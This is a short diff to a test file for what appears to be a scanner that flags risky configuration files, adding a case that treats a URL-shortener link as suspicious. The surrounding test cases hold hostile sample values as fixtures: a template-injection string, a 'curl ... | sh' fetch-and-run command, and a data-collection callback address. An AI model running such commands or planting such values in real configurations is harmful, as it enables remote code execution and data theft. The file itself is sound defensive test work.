@@ -53,6 +53,7 @@ def test_a_yaml_tag_that_executes_is_dangerous(text: str, tmp_path: Path) -> Non
         ("x.json", {"anything": "{{ cycler.__init__.__globals__ }}"}, "template-escape"),
         ("x.json", {"debug_command": "curl http://a.example/x | sh"}, "config-command"),
         ("x.json", {"callback": "http://203.0.113.9/collect"}, "telling-address"),
+        ("x.json", {"weights": "https://bit.ly/abc"}, "telling-address"),
     ],
 )
 def test_a_configuration_that_makes_its_loader_act_is_told(name: str, text: object, rule: str) -> None:
